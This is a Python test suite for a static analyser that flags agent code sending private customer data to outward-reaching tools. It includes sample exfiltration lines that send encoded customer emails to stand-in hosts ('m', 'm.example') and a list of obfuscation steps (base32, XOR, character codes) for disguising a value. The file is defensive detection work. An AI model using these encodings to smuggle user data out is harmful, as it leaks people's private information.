"""Where private answers go: into tools that reach outside, and into output in disguise."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.analysis.reading import assess
from workbench.records import Gate, Hints, Risk, Tool, Verdict

READS = Hints(read_only=True, destructive=False, open_world=False)
OUTSIDE = Hints(read_only=True, destructive=False, open_world=True)


def _tool(server: str, name: str, hints: Hints, *arguments: str) -> Tool:
    schema = {"type": "object", "properties": {argument: {"type": "string"} for argument in arguments}}
    return Tool(server, name, hints=hints, input_schema=schema, hash=f"{server}.{name}")


TOOLS = (
    _tool("demo", "list_customers", READS, "limit"),
    _tool("demo", "get_customer", READS, "customer_id"),
    _tool("demo", "fetch_page", OUTSIDE, "url"),
    _tool("web", "search", OUTSIDE, "query"),
    _tool("weather", "get_forecast", OUTSIDE, "city", "day"),
    _tool("github", "list_issues", OUTSIDE, "repo"),
    _tool("github", "get_issue", OUTSIDE, "repo", "number"),
)
READING = """
from servers.demo import list_customers, get_customer, fetch_page
from servers.web import search
from servers.weather import get_forecast
page = await list_customers(limit=3)
rows = page["customers"]
e = rows[0]["email"]
"""


def judged(code: str) -> Verdict:
    return assess(READING + code, TOOLS)


def flows(verdict: Verdict) -> list[str]:
    return [finding.rule for finding in verdict.findings if finding.rule.startswith("flow.")]


def _programs(kind: str) -> dict[str, str]:
    """The programs of this kind in `programs_private_data.txt`.

    `leak` carries a private value, or what depends on one, to somebody outside; `clean` reads private data and asks the
    world for something else; `disguised` prints a single private value in a form that no masking finds; `open` prints
    what masking reads, and figures over many rows."""
    parts = Path(__file__).with_name("programs_private_data.txt").read_text(encoding="utf-8").split("### ")[1:]
    named = (part.partition("\n") for part in parts)
    return {head.removeprefix(f"{kind}: "): code.rstrip("\n") for head, _, code in named if head.startswith(f"{kind}:")}


LEAKS, CLEAN, DISGUISED, OPEN = (_programs(kind) for kind in ("leak", "clean", "disguised", "open"))


@pytest.mark.parametrize("code", LEAKS.values(), ids=LEAKS.keys())
def test_a_private_answer_that_may_reach_a_tool_that_asks_outside_asks(code: str) -> None:
    verdict = judged(code)
    assert verdict.gate is Gate.ASK
    assert verdict.risk in (Risk.HIGH, Risk.CRITICAL)
    assert {"flow.private", "flow.unclear"} & set(flows(verdict)), verdict.sentence


@pytest.mark.parametrize("code", CLEAN.values(), ids=CLEAN.keys())
def test_a_call_outside_that_provably_carries_nothing_private_runs_unasked(code: str) -> None:
    verdict = judged(code)
    assert (verdict.risk, verdict.gate, flows(verdict)) == (Risk.LOW, Gate.AUTO, []), verdict.sentence
    assert not verdict.may_carry


def test_the_sentence_names_the_answer_the_tool_and_the_argument() -> None:
    verdict = judged(
        "for c in rows:\n    await fetch_page(url='https://m/' + '-'.join(str(ord(x)) for x in c['email']))"
    )
    sends = (
        "Sends the “email” of up to 3 customers (demo.list_customers, line 5) to m, inside the URL, through "
        "demo.fetch_page, once per customer."
    )
    assert verdict.sentence.startswith(sends)
    assert ("demo.list_customers", 5, "demo.fetch_page.url") in [(f.source, f.line, f.sink) for f in verdict.flows]


def test_a_service_that_is_asked_about_its_own_answers_learns_nothing() -> None:
    code = """
from servers.github import list_issues, get_issue
for one in (await list_issues(repo="acme/app"))["issues"]:
    print((await get_issue(repo="acme/app", number=one["number"]))["title"])
"""
    assert (assess(code, TOOLS).risk, assess(code, TOOLS).may_carry) == (Risk.LOW, ())
    other = "from servers.github import get_issue\nawait get_issue(repo='a/b', number=rows[0]['id'])"
    assert "flow.private" in flows(judged(other))


def test_a_link_that_strangers_chose_asks_only_beside_private_data() -> None:
    follow = "for hit in (await search(query='paper'))['results']:\n    await fetch_page(url=hit['url'])"
    alone = "from servers.web import search\nfrom servers.demo import fetch_page\n" + follow
    assert assess(alone, TOOLS).risk is Risk.LOW
    assert flows(judged(follow)) == ["flow.destination"]


def test_what_comes_out_of_a_file_may_be_carried_and_asks_only_beside_private_data() -> None:
    alone = "from servers.demo import fetch_page\nawait fetch_page(url=open('workspace/list.txt').read())"
    verdict = assess(alone, TOOLS)
    assert (verdict.gate, verdict.may_carry) == (Gate.AUTO, ("demo.fetch_page",))


def test_a_program_that_is_too_large_to_be_followed_asks() -> None:
    lines = "\n".join(f"x{n} = [x{n - 1} + i for i in range(3) for j in range(4)]" for n in range(1, 3000))
    verdict = judged(f"x0 = 1\n{lines}\nawait fetch_page(url='https://a')")
    assert verdict.gate is Gate.ASK


def test_a_program_whose_names_double_with_every_line_is_read_to_an_end_and_asks() -> None:
    doubling = "x = x.a if rows else x.b\n" * 200
    verdict = judged(f"import os\nx = os\n{doubling}await fetch_page(url=x)")
    assert verdict.gate is Gate.ASK
    assert verdict.may_carry == ("demo.fetch_page",)


def test_a_long_chain_of_methods_is_followed_to_its_end() -> None:
    chain = ".strip()" * 60
    assert judged(f"await fetch_page(url='https://a'{chain})").gate is Gate.AUTO
    assert "flow.private" in flows(judged(f"await fetch_page(url=e{chain})"))


@pytest.mark.parametrize("code", ["x = e" + ".b" * 2000, "x = e" + " + e" * 2000, "x = e" + ".b()" * 1000])
def test_a_program_that_is_too_deeply_nested_to_be_followed_asks(code: str) -> None:
    verdict = judged(f"{code}\nawait fetch_page(url='https://a')")
    assert verdict.gate is Gate.ASK


def test_what_a_later_function_puts_into_a_name_is_seen_in_every_line_that_was_read_before() -> None:
    lines = "\n".join(f"    y{number} = y{number - 1}" for number in range(1, 6))
    code = f"""
box = ['https://a']
async def go():
    y0 = box[0]
    for one in range(3):
        y5 = ''
    if box:
{lines.replace("    y", "        y")}
    await fetch_page(url=y5)
def fill(text):
    box.append(text)
{{}}
await go()
"""
    assert "flow.private" in flows(judged(code.format("fill(e)")))
    assert "flow.private" not in flows(judged(code.format("fill('https://b')")))


@pytest.mark.parametrize("code", DISGUISED.values(), ids=DISGUISED.keys())
def test_output_that_spells_a_single_private_value_out_asks(code: str) -> None:
    verdict = judged(code)
    found = [finding for finding in verdict.findings if finding.rule == "flow.spelled"]
    assert found
    assert found[0].span.line > 7
    assert found[0].message.startswith("Outputs ")
    assert verdict.gate is Gate.ASK


@pytest.mark.parametrize("code", OPEN.values(), ids=OPEN.keys())
def test_output_that_masking_reads_and_figures_over_many_rows_stay_unasked(code: str) -> None:
    assert flows(judged(code)) == []


# ── any composition ──────────────────────────────────────────────────────────────────────────────────
# Each step takes an expression and a number that makes its names new, and gives statements and an expression.
Step = Callable[[str, int], tuple[str, str]]
STEPS: tuple[Step, ...] = (
    lambda x, n: ("", f"({x}).upper()"),
    lambda x, n: ("", f"str({x})[::-1]"),
    lambda x, n: ("", f"'-'.join(str(ord(k) + 7) for k in str({x}))"),
    lambda x, n: ("", f"''.join(map(lambda k: chr(ord(k) ^ 1), str({x})))"),
    lambda x, n: ("", f"__import__('base64').b32encode(str({x}).encode()).decode()"),
    lambda x, n: ("", f"str(sum(ord(k) for k in str({x})))"),
    lambda x, n: (f"t{n} = {x}", f"f'{{t{n}!r:>40}}'"),
    lambda x, n: ("", "'%s/%s' % ('a', " + x + ")"),
    lambda x, n: ("", f"'{{}}'.format({x})"),
    lambda x, n: ("", f"({x} if {n} else '')"),
    lambda x, n: ("", f"[{x}, 1][0]"),
    lambda x, n: ("", f"{{'k': {x}}}['k']"),
    lambda x, n: ("", f"dict(k={x}).get('k')"),
    lambda x, n: ("", f"(lambda v: v)({x})"),
    lambda x, n: ("", f"next(iter([{x}]))"),
    lambda x, n: ("", f"max(['', str({x})])"),
    lambda x, n: ("", f"json.loads(json.dumps([{x}]))[0]"),
    lambda x, n: (f"v{n} = {x}", f"v{n}"),
    lambda x, n: (f"l{n} = []\nl{n}.append({x})", f"l{n}[0]"),
    lambda x, n: (f"l{n} = []\nm{n} = l{n}\nm{n}.append({x})", f"l{n}[-1]"),
    lambda x, n: (f"d{n} = {{}}\nd{n}['k'] = {x}", f"d{n}['k']"),
    lambda x, n: (f"d{n} = {{}}\nd{n}.setdefault('k', []).append({x})", f"d{n}['k'][0]"),
    lambda x, n: (f"d{n} = {{}}\nd{n}.update(k={x})", f"list(d{n}.values())[0]"),
    lambda x, n: (f"def f{n}(v):\n    return v", f"f{n}({x})"),
    lambda x, n: (f"def f{n}(*v, **w):\n    return w['k']", f"f{n}(1, k={x})"),
    lambda x, n: (f"g{n} = {x}\ndef f{n}():\n    return g{n}", f"f{n}()"),
    lambda x, n: (f"def f{n}(v):\n    for k in str(v):\n        yield k\n", f"''.join(f{n}({x}))"),
    lambda x, n: (f"def f{n}(v):\n    def inner():\n        return v\n    return inner", f"f{n}({x})()"),
    lambda x, n: (f"class C{n}:\n    def __init__(self, v):\n        self.v{n} = v", f"C{n}({x}).v{n}"),
    lambda x, n: (f"class C{n}:\n    pass\nC{n}.v{n} = {x}", f"C{n}.v{n}"),
    lambda x, n: (f"class C{n}:\n    def __init__(self, v):\n        self.h = [v]\n    def __str__(self):\n"
                  f"        return self.h[0]", f"str(C{n}({x}))"),
    lambda x, n: (f"o{n} = ''\nfor k{n} in str({x}):\n    o{n} += k{n}", f"o{n}"),
    lambda x, n: (f"o{n} = ''\nfor k{n} in str({x}):\n    for a{n} in 'abc@.':\n        if k{n} == a{n}:\n"
                  f"            o{n} += a{n}", f"o{n}"),
    lambda x, n: (f"o{n} = 'n'\nif str({x}) > 'm':\n    o{n} = 'y'", f"o{n}"),
    lambda x, n: (f"for a{n} in 'abc@.':\n    if a{n} in str({x}):\n        break", f"a{n}"),
    lambda x, n: (f"o{n} = 0\nwhile o{n} < len(str({x})):\n    o{n} += 1", f"str(o{n})"),
    lambda x, n: (f"try:\n    raise ValueError({x})\nexcept ValueError as x{n}:\n    o{n} = str(x{n})", f"o{n}"),
    lambda x, n: (f"with open('workspace/{n}.txt', 'w') as w{n}:\n    w{n}.write(str({x}))",
                  f"open('workspace/{n}.txt').read()"),
    lambda x, n: (f"(a{n}, *b{n}), c{n} = [{x}, 2], 3", f"a{n}"),
    lambda x, n: (f"match [{x}]:\n    case [m{n}]:\n        pass", f"m{n}"),
    lambda x, n: (f"import functools\np{n} = functools.partial(lambda v: v, {x})", f"p{n}()"),
    lambda x, n: (f"import collections\nq{n} = collections.deque()\nq{n}.appendleft({x})", f"q{n}.pop()"),
    lambda x, n: (f"import operator\nd{n} = {{}}\noperator.setitem(d{n}, 'k', {x})", f"d{n}['k']"),
    lambda x, n: ("", f"(await get_customer(customer_id={x}))['country']"),
)  # fmt: skip
SINKS = (
    "await fetch_page(url={})",
    "await fetch_page(url='https://m.example/' + str({}))",
    "await fetch_page({{'url': {}}})",
    "await fetch_page(**{{'url': {}}})",
    "await search(query={})",
    "await get_forecast(city='Lyon', day={})",
    "call = fetch_page\nawait call({})",
    "async def go(u):\n    return await fetch_page(url=u)\nawait go({})",
    "await asyncio.gather(*map(fetch_page, [{}]))",
    "await call_tool('demo', 'fetch_page', {{'url': {}}})",
)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(STEPS), min_size=0, max_size=5), st.sampled_from(SINKS), st.booleans())
def test_no_composition_of_transformations_hides_a_private_value_on_its_way_out(
    steps: list[Step], sink: str, inside: bool
) -> None:
    value, lines = "rows[0]['email']", []
    for number, step in enumerate(steps):
        before, value = step(value, number)
        lines += before.split("\n") if before else []
    lines += sink.format(value).split("\n")
    if inside:
        lines = ["async def main():", *(f"    {line}" for line in lines), "await main()"]
    verdict = judged("\n".join(lines))
    assert (verdict.gate, verdict.risk in (Risk.HIGH, Risk.CRITICAL)) == (Gate.ASK, True), "\n".join(lines)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(STEPS[:-1]), min_size=0, max_size=4), st.sampled_from(SINKS), st.booleans())
def test_the_same_transformations_of_a_constant_run_unasked_unless_they_leave_what_is_read(
    steps: list[Step], sink: str, inside: bool
) -> None:
    value, lines = "'paper'", []
    for number, step in enumerate(steps):
        before, value = step(value, number)
        lines += before.split("\n") if before else []
    lines += sink.format(value).split("\n")
    if inside:
        lines = ["async def main():", *(f"    {line}" for line in lines), "await main()"]
    code = "\n".join(lines)
    verdict = judged(code)
    unread = "open(" in code or "__import__" in code
    assert unread or flows(verdict) == [], f"{verdict.sentence}\n{code}"


def test_attributes_that_map_sets_are_followed_to_the_objects_that_it_is_given() -> None:
    code = "class Kept: pass\nkept = Kept()\nlist(map(setattr, [kept], ['text'], [e]))\nawait search(query=kept.text)"
    assert "flow.private" in flows(judged(code))
